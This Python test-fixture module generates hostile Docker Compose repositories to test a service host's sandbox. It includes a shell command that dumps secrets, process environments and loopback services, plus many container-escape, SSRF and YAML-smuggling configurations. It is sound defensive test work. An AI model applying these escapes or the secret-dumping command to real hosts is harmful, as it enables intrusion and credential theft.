"""More than 200 repositories, each with one way to get at what is not theirs.

A text may name the places of a scene (:class:`hostile.scene.Scene`): ``@OUTSIDE@`` a folder of the
host with a secret, ``@PORT@`` what listens on the host's loopback, ``@OTHER@`` another project's
container with a secret, ``@MARK@`` a file of the host that must not appear.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from support.git_server import Link

File = str | bytes | Link
IMAGE = "mc-jupyter-test/base:1"
SECRET_NAME = "MC_HOSTILE_SECRET"
"""A variable of the kernel's environment, whose value is a secret."""

# prints whatever it can reach; a start is judged by that
LOOT = (
    "for f in /loot /loot/* /loot/*/* /run/secrets/* /c /proc/1/environ; do cat $$f; done 2>/dev/null; "
    "env; ls -a / /loot; cat /proc/[0-9]*/cmdline | tr '\\\\0' ' '; "
    "touch /loot/mark-of-hostile /loot/w/mark-of-hostile 2>/dev/null; "
    "for u in http://127.0.0.1:@PORT@/x http://host.docker.internal:@PORT@/x http://@OTHER@/ http://other/; do "
    "timeout 1 python3 -c 'import sys,urllib.request as u; print(u.urlopen(sys.argv[1],timeout=1).read())' $$u 2>/dev/null; "
    "done; echo end-of''-loot; exec python3 -m http.server 80"
)
WEB = f"""services:
  web:
    image: {IMAGE}
    command: ["sh", "-c", "{LOOT}"]
    ports: ["80"]
"""
OTHER_FILE = f"""services:
  more:
    image: {IMAGE}
    privileged: true
    volumes: ["@OUTSIDE@:/loot"]
    env_file: "@OUTSIDE@/secret.env"
    environment: [MC_HOSTILE_SECRET]
"""


@dataclass(frozen=True)
class Repository:
    """One repository.

    Attributes
    ----------
    name
        Of the trick.
    files
        Its files by path; ``docker-compose.yml`` among them.
    is_started
        Whether it is one of those that are started for real at each run.
    """

    name: str
    files: dict[str, File] = field(default_factory=dict)
    is_started: bool = False


def service(lines: str, top: str = "") -> str:
    """Return a compose file whose service has some more lines."""
    return WEB + "".join(f"    {line}\n" for line in lines.split("\n")) + top


def build(dockerfile: str, more: str = "") -> dict[str, File]:
    """Return a repository that builds its image."""
    text = WEB.replace(f"image: {IMAGE}", f"build: {{context: .{more}}}")
    return {"docker-compose.yml": text, "Dockerfile": dockerfile, "here": "here\n"}


SERVICE_KEYS = {
    "annotations": "annotations: {io.kubernetes.cri-o.Devices: /dev/fuse, cdi.k8s.io/x: nvidia.com/gpu=all}",
    "blkio": "blkio_config: {device_read_bps: [{path: /dev/sda, rate: 1}]}",
    "cap_add": "cap_add: [ALL]",
    "cap_add one": "cap_add: [SYS_PTRACE, NET_ADMIN, DAC_READ_SEARCH]",
    "cgroup host": "cgroup: host",
    "cgroup parent": "cgroup_parent: /",
    "configs": "configs: [{source: s, target: /loot}]",
    "credential spec": "credential_spec: {file: '@OUTSIDE@/secret.env'}",
    "device rules": 'device_cgroup_rules: ["a *:* rwm"]',
    "devices": 'devices: ["/dev/kmsg:/dev/kmsg"]',
    "devices by cdi": 'devices: ["vendor.com/device=all"]',
    "dns": "dns: [127.0.0.1]\ndns_search: [internal]",
    "external links": "external_links: ['@OTHER@:other']",
    "extra hosts": 'extra_hosts: ["host.docker.internal:host-gateway"]',
    "extra hosts, address": 'extra_hosts: {"host.docker.internal": 172.17.0.1}',
    "gpus of another kind": "gpus: [{driver: cdi, capabilities: [x], device_ids: [vendor/dev]}]",
    "group": "group_add: [docker, '0']",
    "hook": "post_start: [{command: [touch, /loot/mark], privileged: true, user: root}]",
    "hook at the end": "pre_stop: [{command: [id], privileged: true}]",
    "ipc host": "ipc: host",
    "ipc of another": "ipc: 'container:@OTHER@'",
    "log driver": 'logging: {driver: syslog, options: {syslog-address: "tcp://127.0.0.1:@PORT@"}}',
    "log driver, http": 'logging: {driver: splunk, options: {splunk-url: "http://127.0.0.1:@PORT@", splunk-token: x}}',
    "log option": "logging: {driver: json-file, options: {env: '@SECRET_NAME@'}}",
    "address": "networks: {default: {ipv4_address: 172.16.0.9}}",
    "mac address": "mac_address: '02:42:ac:11:65:43'",
    "models": "models: [m]",
    "host's network": "network_mode: host",
    "another's network": "network_mode: 'container:@OTHER@'",
    "no such network mode": "network_mode: 'ns:/proc/1/ns/net'",
    "oom": "oom_kill_disable: true\noom_score_adj: -1000",
    "pid host": "pid: host",
    "pid of another": "pid: 'container:@OTHER@'",
    "privileged": "privileged: true",
    "provider": "provider: {type: '@OUTSIDE@/run.sh'}",
    "pull policy": "pull_policy: build",
    "rt": "cpu_rt_runtime: 95000",
    "runtime": "runtime: sysbox-runc",
    "seccomp": "security_opt: ['seccomp:unconfined', 'apparmor:unconfined', 'label:disable']",
    "seccomp by a file": "security_opt: ['seccomp:@OUTSIDE@/secret.env']",
    "secrets": "secrets: [s]",
    "storage": "storage_opt: {size: 1G}",
    "sysctls": "sysctls: {net.ipv4.ip_forward: 1}",
    "api socket": "use_api_socket: true",
    "user namespace": "userns_mode: host",
    "uts": "uts: host",
    "root": 'volumes: ["/:/loot"]',
    "folder of the host": 'volumes: ["@OUTSIDE@:/loot"]',
    "parent folder": 'volumes: ["../../..:/loot"]',
    "home": 'volumes: ["~:/loot"]',
    "home of root": 'volumes: ["~root:/loot"]',
    "home by a variable": 'volumes: ["${HOME}:/loot"]',
    "home by a default": 'volumes: ["${NOWHERE:-@OUTSIDE@}:/loot"]',
    "dots": 'volumes: ["./x/../../..:/loot"]',
    "engine's socket": 'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]',
    "processes": 'volumes: ["/proc/1/root:/loot"]',
    "long bind": "volumes: [{type: bind, source: '@OUTSIDE@', target: /loot}]",
    "propagation": "volumes: [{type: bind, source: ., target: /loot, bind: {propagation: rshared}}]",
    "image mount": "volumes: [{type: image, source: '127.0.0.1:@PORT@/x', target: /loot}]",
    "pipe mount": "volumes: [{type: npipe, source: '@OUTSIDE@', target: /loot}]",
    "cluster mount": "volumes: [{type: cluster, source: x, target: /loot}]",
    "subpath": "volumes: [{type: volume, source: vol, target: /loot, volume: {subpath: ../../..}}]",
    "volumes of another": "volumes_from: ['container:@OTHER@']",
    "everything at once": "privileged: true\npid: host\nnetwork_mode: host\nvolumes: ['/:/loot']",
    "replicas": "deploy: {replicas: 1000}",
    "scale": "scale: 1000",
    "devices of deploy": "deploy: {resources: {reservations: {devices: [{driver: cdi, capabilities: [x], "
    "device_ids: [vendor/dev]}]}}}",
    "shared memory": "shm_size: 100t",
    "tmpfs": "tmpfs: ['/x:size=100t']",
    "tmpfs, percent": "tmpfs: ['/x:size=99%']",
    "tmpfs mount": "volumes: [{type: tmpfs, target: /x, tmpfs: {size: 100t}}]",
    "labels of ours": "labels: {io.mediaconduit.jupyter.home: forged, com.docker.compose.project: other}",
    "name": "container_name: '@OTHER@'",
    "image of the host's registry": "image: 127.0.0.1:@PORT@/x:1",
}
TOP_LEVEL = {
    "include": "include: ['@OUTSIDE@/compose.yml']\n",
    "include, long": "include: [{path: '@OUTSIDE@/compose.yml', env_file: '@OUTSIDE@/secret.env'}]\n",
    "include of git": "include: ['git@127.0.0.1:@PORT@/x.git']\n",
    "include of http": "include: ['http://127.0.0.1:@PORT@/compose.yml']\n",
    "include of oci": "include: ['oci://127.0.0.1:@PORT@/x']\n",
    "config file": "configs: {s: {file: '@OUTSIDE@/secret.env'}}\n",
    "config from the environment": "configs: {s: {environment: @SECRET_NAME@}}\n",
    "config with a text": "configs: {s: {content: '${@SECRET_NAME@}'}}\n",
    "config of others": "configs: {s: {external: true}}\n",
    "secret file": "secrets: {s: {file: '@OUTSIDE@/secret.env'}}\n",
    "secret from the environment": "secrets: {s: {environment: @SECRET_NAME@}}\n",
    "secret driver": "secrets: {s: {driver: x, driver_opts: {a: b}}}\n",
    "network of others": "networks: {default: {external: true, name: '@OTHER@'}}\n",
    "network by name": "networks: {default: {name: '@OTHER@'}}\n",
    "network driver": "networks: {default: {driver: macvlan, driver_opts: {parent: eth0}}}\n",
    "host network": "networks: {default: {external: true, name: host}}\n",
    "network options": "networks: {default: {driver_opts: {com.docker.network.bridge.name: docker0}}}\n",
    "network address": "networks: {default: {ipam: {config: [{subnet: 127.0.0.0/8}]}}}\n",
    "network, six": "networks: {default: {enable_ipv6: true}}\n",
    "volume of a folder": "volumes: {vol: {driver_opts: {type: none, o: bind, device: '@OUTSIDE@'}}}\n",
    "volume of nfs": "volumes: {vol: {driver_opts: {type: nfs, o: 'addr=127.0.0.1', device: ':/'}}}\n",
    "volume driver": "volumes: {vol: {driver: vieux/sshfs}}\n",
    "volume of others": "volumes: {vol: {external: true, name: '@OTHER@'}}\n",
    "volume by name": "volumes: {vol: {name: '@OTHER@'}}\n",
    "models": "models: {m: {model: x, runtime_flags: ['--x']}}\n",
    "name": "name: '../../x'\n",
}
TOP_USES = {
    "configs": "configs: [{source: s, target: /loot}]",
    "secrets": "secrets: [s]",
    "volumes": "volumes: ['vol:/loot']",
    "models": "models: [m]",
}

KEY_SPELLINGS = {
    "plain": "{key}:",
    "double quotes": '"{key}":',
    "single quotes": "'{key}':",
    "hexadecimal": '"\\x{first:02x}{rest}":',
    "unicode": '"\\u{first:04x}{rest}":',
    "long unicode": '"\\U{first:08X}{rest}":',
    "capital escape": '"\\u{first:04X}{rest}":',
    "question mark": "? {key}\n:",
    "question mark, quoted": '? "{key}"\n:',
    "question mark, folded": "? >-\n  {key}\n:",
    "anchor": "&a {key}:",
    "core tag": "!!str {key}:",
    "verbatim tag": "!<tag:yaml.org,2002:str> {key}:",
    "binary": "!!binary {base64}:",
    "local tag": "!x {key}:",
    "override": "!override {key}:",
    "alias": "? *key\n:",
    "escaped line": '"{start}\\\n  {end}":',
}
"""How a key can be written; `?` and alias forms need lines of their own."""

POWERS = {
    "include": ("include", "['@OUTSIDE@/compose.yml']", ""),
    "extends": ("extends", "{file: '@OUTSIDE@/compose.yml', service: more}", "    "),
    "env_file": ("env_file", "'@OUTSIDE@/secret.env'", "    "),
    "privileged": ("privileged", "true", "    "),
    "volumes": ("volumes", "['@OUTSIDE@:/loot']", "    "),
}


def _spelled(spelling: str, power: str) -> str:
    import base64

    key, value, indent = POWERS[power]
    words = {
        "key": key,
        "first": ord(key[0]),
        "rest": key[1:],
        "start": key[:3],
        "end": key[3:],
        "base64": base64.b64encode(key.encode()).decode(),
    }
    text = KEY_SPELLINGS[spelling].format(**words)
    lines = (f"{text} {value}").split("\n")
    anchor = f"x-k: &key {key}\n" if "*key" in text else ""
    return anchor + WEB + "".join(f"{indent}{line}\n" for line in lines)


def _structures() -> dict[str, str | bytes]:
    """Files in which a look at one reader's result would not show what another sees."""
    other = "'@OUTSIDE@/compose.yml'"
    privileged = "privileged: true"
    return {
        "second document": WEB + f"---\ninclude: [{other}]\n",
        "first document": f"include: [{other}]\n---\n" + WEB,
        "end of a document": WEB + f"...\n---\n{WEB}    privileged: true\n",
        "merge": f"x-a: &a {{include: [{other}]}}\n<<: *a\n" + WEB,
        "merge of a list": f"x-a: &a {{include: [{other}]}}\n<<: [*a]\n" + WEB,
        "merge, quoted": f"x-a: &a {{include: [{other}]}}\n'<<': *a\n" + WEB,
        "merge by tag": f"x-a: &a {{include: [{other}]}}\n!!merge x: *a\n" + WEB,
        "merge in a service": f"x-a: &a {{{privileged}}}\n" + service("<<: *a"),
        "merge within a merge": f"x-a: &a {{{privileged}}}\nx-b: &b {{<<: *a}}\n"
        + service("<<: *b"),
        "merge in place": service(f"<<: {{{privileged}}}"),
        "twice, harmless first": service("privileged: false\nprivileged: true"),
        "twice, harmless last": service("privileged: true\nprivileged: false"),
        "twice at the top": WEB + f"include: []\ninclude: [{other}]\n",
        "services twice": WEB + f"services:\n  web: {{image: {IMAGE}, {privileged}}}\n",
        "services by alias": f"x-s: &s\n  web: {{image: {IMAGE}, {privileged}}}\nservices: *s\n",
        "tag of another prefix": f"%TAG !y! tag:yaml.org,2002:\n---\n!y!str include: [{other}]\n"
        + WEB,
        "directive": f"%YAML 1.1\n---\ninclude: [{other}]\n" + WEB,
        "reset of nothing": service("privileged: !reset null") + f"include: !override [{other}]\n",
        "override": service("privileged: !override true"),
        "reset of a list": service("volumes: !override ['@OUTSIDE@:/loot']"),
        "flow": f"{{services: {{web: {{image: '{IMAGE}', {privileged}}}}}, include: [{other}]}}\n",
        "JSON": f'{{"services": {{"web": {{"image": "{IMAGE}", "privileged": true}}}}}}\n',
        "tabs": WEB + f"include:\t[{other}]\n",
        "carriage returns": (WEB + f"include: [{other}]\n").replace("\n", "\r"),
        "CRLF": (WEB + f"include: [{other}]\n").replace("\n", "\r\n"),
        "next lines": WEB + f"# x\x85include: [{other}]\n",
        "line separators": WEB + f"# x\u2028include: [{other}]\n",
        "a quote in a comment": f"# it's\ninclude: [{other}]\n" + WEB + "# it's\n",
        "a comment in a quote": f"x-a: 'a\n  # '\ninclude: [{other}]\n" + WEB,
        "block text": f"x-a: |\n  a\ninclude: [{other}]\n" + WEB,
        "mark of the byte order": "\ufeff" + f"include: [{other}]\n" + WEB,
        "UTF-16": ("\ufeff" + f"include: [{other}]\n" + WEB).encode("utf-16-le"),
        "UTF-16, big": ("\ufeff" + f"include: [{other}]\n" + WEB).encode("utf-16-be"),
        "broken UTF-8": f"include: [{other}]\n".encode() + WEB.encode() + b"# \xff\n",
        "NUL": (WEB + f"# \0\ninclude: [{other}]\n").encode(),
        "capital letter": WEB + f"Include: [{other}]\n",
        "space in a key": WEB + f"'include ': [{other}]\n",
        "alias of a value": f"x-a: &a {{file: {other}, service: more}}\n" + service("extends: *a"),
        "alias to itself": "x-a: &a [*a]\n" + WEB,
        "bomb": "\n".join(
            ["x-a: &a0 [x]"]
            + [f"x-{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
        )
        + "\n"
        + WEB,
        "deep": "x-a: " + "[" * 5000 + "]" * 5000 + "\n" + WEB,
        "long": WEB + "# " + "x" * 2_000_000 + "\n",
        "extends of itself": service("extends: web"),
        "extends of a list": service("extends: ['@OUTSIDE@/compose.yml']"),
        "extends by a needed service": WEB
        + "    depends_on: [db]\n  db:\n    extends: {file: "
        + other
        + ", service: more}\n",
        "name of an option": WEB
        + f"    depends_on: ['--privileged']\n  '--privileged': {{image: {IMAGE}}}\n",
        "needed by a variable": WEB
        + f"    depends_on: ['${{X:-db}}']\n  db: {{image: {IMAGE}, {privileged}}}\n",
        "300 ports": service("expose: []").replace('ports: ["80"]', 'ports: ["1000-1299:80"]'),
        "public port": service("expose: []").replace(
            'ports: ["80"]', 'ports: ["0.0.0.0:8099:80", "[::]:8099:80"]'
        ),
    }


FILE_WORDS = {
    "outside": "@OUTSIDE@/secret.env",
    "above": "../../outside/secret.env",
    "link": "link",
    "link to a folder": "folder/secret.env",
    "chain": "chain",
    "dots": "x/../../../outside/secret.env",
    "environment of a process": "/proc/self/environ",
    "standard input": "/dev/stdin",
    "endless": "/dev/zero",
    "file descriptor": "/proc/self/fd/0",
    "variable": "${X:-@OUTSIDE@/secret.env}",
    "home": "~/secret.env",
    "folder": "x",
}
FILE_KEYS = {
    "env_file": "env_file: '{path}'",
    "env_file, long": "env_file: [{{path: '{path}', required: false, format: raw}}]",
    "label_file": "label_file: ['{path}']",
}
LINKS: dict[str, File] = {
    "link": Link("../../outside/secret.env"),
    "folder": Link("@OUTSIDE@"),
    "chain": Link("chain2"),
    "chain2": Link("link"),
    "x/y": "A=1\n",
}

ENVIRONMENT = {
    "by name": "environment: [@SECRET_NAME@, HOME, PATH]",
    "by a null": "environment: {@SECRET_NAME@: , HOME: }",
    "filled in": "environment: {A: '${@SECRET_NAME@}', B: '$@SECRET_NAME@', C: '${@SECRET_NAME@:-}'}",
    "nested": "environment: {A: '${NOWHERE:-${@SECRET_NAME@}}'}",
    "in a label": "labels: {a: '${@SECRET_NAME@}'}",
    "in a command": "entrypoint: ['sh', '-c', 'echo ${@SECRET_NAME@}; sleep 9']",
    "in a health check": "healthcheck: {test: 'echo ${@SECRET_NAME@}'}",
    "in a name": "hostname: 'a${@SECRET_NAME@}'",
    "dollars": "environment: {A: '$$${@SECRET_NAME@}', B: '$$$${@SECRET_NAME@}'}",
    "twice": "environment: {A: '$${@SECRET_NAME@}'}",
    "by a key": "labels: {'${@SECRET_NAME@}': a}",
}

_PORT = "127.0.0.1:@PORT@"
DOCKERFILES = {
    "ADD": f"FROM {IMAGE}\nADD http://{_PORT}/x /loot/x\n",
    "ADD, lower": f"from {IMAGE}\nadd http://{_PORT}/x /loot/x\n",
    "ADD, JSON": f'FROM {IMAGE}\nADD ["http://{_PORT}/x", "/loot/x"]\n',
    "ADD, continued": f"FROM {IMAGE}\nADD \\\n  # hello\n  http://{_PORT}/x \\\n /loot/x\n",
    "ADD, split word": f"FROM {IMAGE}\nA\\\nDD http://{_PORT}/x /loot/x\n",
    "ADD, escape": f"# escape=`\nFROM {IMAGE}\nADD `\n http://{_PORT}/x /loot/x\n",
    "ADD, quotes": f'FROM {IMAGE}\nADD "http://{_PORT}/x" /loot/x\n',
    "ADD, quotes within": f"FROM {IMAGE}\nADD ht''tp://{_PORT}/x /loot/x\n",
    "ADD, backslash": f"FROM {IMAGE}\nADD h\\ttp://{_PORT}/x /loot/x\n",
    "ADD, argument": f"FROM {IMAGE}\nARG U=http://{_PORT}/x\nADD $U /loot/x\n",
    "ADD, part of an argument": f"FROM {IMAGE}\nARG U={_PORT}\nADD http://${{U}}/x /loot/x\n",
    "ADD, environment": f"FROM {IMAGE}\nENV U http://{_PORT}/x\nADD ${{U}} /loot/x\n",
    "ADD, default": f"FROM {IMAGE}\nADD ${{NOWHERE:-http://{_PORT}/x}} /loot/x\n",
    "ADD, decimal": f"FROM {IMAGE}\nADD http://2130706433:@PORT@/x /loot/x\n",
    "ADD, hexadecimal": f"FROM {IMAGE}\nADD http://0x7f.1:@PORT@/x /loot/x\n",
    "ADD, short": f"FROM {IMAGE}\nADD http://127.1:@PORT@/x /loot/x\n",
    "ADD, zero": f"FROM {IMAGE}\nADD http://0:@PORT@/x /loot/x\n",
    "ADD, six": f"FROM {IMAGE}\nADD http://[::ffff:127.0.0.1]:@PORT@/x /loot/x\n",
    "ADD, localhost": f"FROM {IMAGE}\nADD http://localhost:@PORT@/x /loot/x\n",
    "ADD, user": f"FROM {IMAGE}\nADD http://github.com@{_PORT}/x /loot/x\n",
    "ADD, git": f"FROM {IMAGE}\nADD http://{_PORT}/x.git#main /loot/x\n",
    "ADD, git's own": f"FROM {IMAGE}\nADD git://{_PORT}/x.git /loot/x\n",
    "ADD in a here-document": f"FROM {IMAGE}\nRUN <<EOF\nADD http://{_PORT}/x /loot/x\nEOF\n",
    "ADD behind a here-document": f"FROM {IMAGE}\nRUN <<'E\\'\nE\\\nADD http://{_PORT}/x /loot/x\n",
    "ONBUILD": f"FROM {IMAGE} AS a\nONBUILD ADD http://{_PORT}/x /loot/x\nFROM a\n",
    "FROM": f"FROM {_PORT}/x:1\n",
    "FROM, argument": f"ARG B={_PORT}/x\nFROM $B\n",
    "FROM, default": f"FROM ${{B:-{_PORT}/x}}\n",
    "FROM, stage that is not used": f"FROM {_PORT}/x AS a\nFROM {IMAGE}\nCOPY --from=a / /x\n",
    "COPY from": f"FROM {IMAGE}\nCOPY --from={_PORT}/x /x /loot\n",
    "COPY from, quotes": f'FROM {IMAGE}\nCOPY --fr"om"={_PORT}/x /x /loot\n',
    "RUN mount": f"FROM {IMAGE}\nRUN --mount=type=bind,from={_PORT}/x,target=/x ls /x\n",
    "RUN with the host's network": f'FROM {IMAGE}\nRUN --network=host python3 -c "import urllib.request as u; '
    f"u.urlopen('http://{_PORT}/x')\"\n",
    "RUN with rights": f"FROM {IMAGE}\nRUN --security=insecure ls /\n",
    "RUN with a secret": f"FROM {IMAGE}\nRUN --mount=type=secret,id=s cat /run/secrets/s > /c || true\n",
    "RUN with the agent": f"FROM {IMAGE}\nRUN --mount=type=ssh env > /c\n",
    "syntax": f"# syntax={_PORT}/frontend:1\nFROM {IMAGE}\n",
    "syntax, C": f"// syntax={_PORT}/frontend:1\nFROM {IMAGE}\n",
    "syntax, JSON": f'{{"syntax": "{_PORT}/frontend:1"}}\nFROM {IMAGE}\n',
    "syntax, shebang": f"#!/x\n# syntax={_PORT}/frontend:1\nFROM {IMAGE}\n",
    "syntax, capitals": f"# SYNTAX = {_PORT}/frontend:1\nFROM {IMAGE}\n",
    "link in the context": f"FROM {IMAGE}\nCOPY outlink /loot\nCOPY outfolder /loot2\n",
}
BUILD_KEYS = {
    "additional contexts": ", additional_contexts: {h: '@OUTSIDE@'}",
    "additional image": f", additional_contexts: {{h: 'docker-image://{_PORT}/x'}}",
    "additional address": f", additional_contexts: {{h: 'http://{_PORT}/x.git'}}",
    "arguments by name": ", args: [@SECRET_NAME@, HOME]",
    "arguments filled in": ", args: {A: '${@SECRET_NAME@}'}",
    "cache to a folder": ", cache_to: ['type=local,dest=@OUTSIDE@/mark-of-hostile']",
    "cache from a registry": f", cache_from: ['type=registry,ref={_PORT}/x']",
    "entitlements": ", entitlements: [network.host, security.insecure]",
    "extra hosts": ", extra_hosts: ['x:127.0.0.1']",
    "network": ", network: host",
    "privileged": ", privileged: true",
    "secrets": ", secrets: [s]}\nsecrets: {s: {file: '@OUTSIDE@/secret.env'}",
    "ssh": ", ssh: ['default=@OUTSIDE@/secret.env']",
    "tags": ", tags: ['mc-jupyter-test/base:1']",
    "dockerfile outside": ", dockerfile: '@OUTSIDE@/Dockerfile'",
    "dockerfile above": ", dockerfile: ../../outside/Dockerfile",
    "dockerfile by a link": ", dockerfile: outdocker",
    "isolation": ", isolation: hyperv",
}
CONTEXTS = ("@OUTSIDE@", "../../outside", "outfolder", f"http://{_PORT}/x.git", f"git://{_PORT}/x.git",
            "~", "/", "${X:-@OUTSIDE@}")  # fmt: skip

STARTED = {
    "key: host's network", "key: privileged", "key: folder of the host", "key: engine's socket",
    "key: pid host", "key: another's network", "key: extra hosts", "key: volumes of another",
    "key: external links", "key: everything at once", "key: name", "key: labels of ours",
    "top: include", "top: volume of a folder", "top: network of others", "top: network by name",
    "top: volume by name", "top: config from the environment",
    "env: by name", "env: filled in", "env: twice", "structure: merge in a service",
    "build: ADD", "build: ADD, argument", "build: ADD in a here-document", "build: ONBUILD",
    "build: link in the context", "build: RUN with the host's network", "build key: arguments by name",
    "build key: cache to a folder", "build: RUN with a secret", "file: env_file: link",
}  # fmt: skip


def _all() -> list[Repository]:
    found: dict[str, dict[str, File]] = {}
    for name, lines in SERVICE_KEYS.items():
        top = "volumes: {vol: }\n" if "source: vol" in lines else ""
        found[f"key: {name}"] = {"docker-compose.yml": service(lines, top)}
    for name, text in TOP_LEVEL.items():
        uses = TOP_USES.get(text.split(":")[0], "init: true")
        found[f"top: {name}"] = {"docker-compose.yml": service(uses, text)}
    for spelling in KEY_SPELLINGS:
        for power in POWERS:
            found[f"spelling: {power}, {spelling}"] = {
                "docker-compose.yml": _spelled(spelling, power)
            }
    for name, whole in _structures().items():
        found[f"structure: {name}"] = {"docker-compose.yml": whole}
    for key, line in FILE_KEYS.items():
        for name, path in FILE_WORDS.items():
            text = service(line.format(path=path))
            found[f"file: {key}: {name}"] = {**LINKS, "docker-compose.yml": text}
    uses_values = service("environment: {A: '${LEAK}', B: '${@SECRET_NAME@}'}")
    found["values: link"] = {
        ".env": Link("../../outside/secret.env"),
        "docker-compose.yml": uses_values,
    }
    found["values: absolute link"] = {
        ".env": Link("@OUTSIDE@/secret.env"),
        "docker-compose.yml": uses_values,
    }
    found["values: for Compose"] = {
        ".env": "COMPOSE_FILE=@OUTSIDE@/compose.yml\nCOMPOSE_ENV_FILES=@OUTSIDE@/secret.env\n"
        "COMPOSE_PROFILES=x\nDOCKER_HOST=tcp://127.0.0.1:@PORT@\nDOCKER_CONFIG=@OUTSIDE@\n"
        "OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.1:@PORT@\nLD_PRELOAD=@OUTSIDE@/x\nHOME=@OUTSIDE@\n",
        "docker-compose.yml": uses_values,
    }
    found["values: of the process"] = {
        ".env": "A=${@SECRET_NAME@}\n@SECRET_NAME@\n",
        "docker-compose.yml": service("environment: {A: '${A}', B: '${@SECRET_NAME@}'}"),
    }
    for name, lines in ENVIRONMENT.items():
        found[f"env: {name}"] = {"docker-compose.yml": service(lines)}
    for name, text in DOCKERFILES.items():
        links = {"outlink": Link("../../outside/secret.env"), "outfolder": Link("@OUTSIDE@")}
        found[f"build: {name}"] = {**build(text), **links}
        inline = build(f"FROM {IMAGE}\n", ", dockerfile_inline: " + _yaml(text))
        found[f"inline: {name}"] = inline
    for name, more in BUILD_KEYS.items():
        found[f"build key: {name}"] = {
            **build(
                f"FROM {IMAGE}\nARG A\nARG @SECRET_NAME@\nARG HOME\nRUN echo $A $@SECRET_NAME@ $HOME > /c\n",
                more,
            ),
            "outdocker": Link("@OUTSIDE@/Dockerfile"),
        }
    for context in CONTEXTS:
        text = WEB.replace(f"image: {IMAGE}", f"build: '{context}'")
        found[f"context: {context}"] = {"docker-compose.yml": text, "outfolder": Link("@OUTSIDE@")}
    binds: dict[str, File] = {
        "in": Link("@OUTSIDE@"),
        "docker-compose.yml": service("volumes: ['./in:/loot']"),
    }
    found["bind: link"] = binds
    found["bind: link within"] = {
        "x/in": Link("../../../outside"),
        "docker-compose.yml": service("volumes: ['./x/in:/loot']"),
    }
    found["bind: all of it"] = {"docker-compose.yml": service("volumes: ['.:/loot/w']")}
    found["manifest: volume"] = {
        "docker-compose.yml": WEB,
        "MediaConduit.service.yml": MANIFEST + "  volumes: ['@OUTSIDE@:/loot']\n",
    }
    found["manifest: compose file outside"] = {
        "docker-compose.yml": WEB,
        "MediaConduit.service.yml": MANIFEST + "  composeFile: '@OUTSIDE@/compose.yml'\n",
    }
    found["manifest: compose file above"] = {
        "docker-compose.yml": WEB,
        "MediaConduit.service.yml": MANIFEST + "  composeFile: ../../outside/compose.yml\n",
    }
    found["compose file: link"] = {"docker-compose.yml": Link("@OUTSIDE@/compose.yml")}
    for files in found.values():
        files.setdefault("MediaConduit.service.yml", MANIFEST)
    return [Repository(name, files, name in STARTED) for name, files in found.items()]


MANIFEST = """name: web-service
docker:
  serviceName: web
  healthCheck: {endpoint: /}
"""


def _yaml(text: str) -> str:
    import json

    return json.dumps(text).replace("$", "$$")


REPOSITORIES = _all()
"""All of them."""

LEAKS = [
    "top: include", "spelling: include, hexadecimal", "spelling: include, binary", "spelling: include, alias",
    "structure: merge", "structure: second document", "structure: flow", "file: env_file: outside",
    "file: env_file: link", "file: label_file: outside", "env: by name", "env: filled in", "values: link",
    "structure: alias of a value",
]  # fmt: skip
"""Names of those of which Compose alone shows a secret: the judge must see it."""

HARMLESS = {
    "MediaConduit.service.yml": "name: web-service\ndocker: {serviceName: web}\n",
    "docker-compose.yml": f"services: {{web: {{image: '{IMAGE}', env_file: a.env, volumes: ['./in:/loot']}}}}\n",
    "a.env": "A=1\n",
    ".env": "B=1\n",
    "Dockerfile": f"FROM {IMAGE}\n",
    "in/x": "x\n",
}
HOSTILE = {
    "MediaConduit.service.yml": "name: web-service\ndocker: {serviceName: web, composeFile: ../outside/compose.yml}\n",
    "docker-compose.yml": "include: ['@OUTSIDE@/compose.yml']\nservices: {web: {build: ., privileged: true, "
    "env_file: '@OUTSIDE@/secret.env', environment: ["
    + SECRET_NAME
    + "], volumes: ['@OUTSIDE@:/loot']}}\n",
    "a.env": "->@OUTSIDE@/secret.env",
    ".env": "->@OUTSIDE@/secret.env",
    "Dockerfile": f"FROM {IMAGE}\nADD http://127.0.0.1:@PORT@/x /x\n",
    "in": "->@OUTSIDE@",
}
"""The files of a repository, and what is put in their place; ``->`` makes a link."""
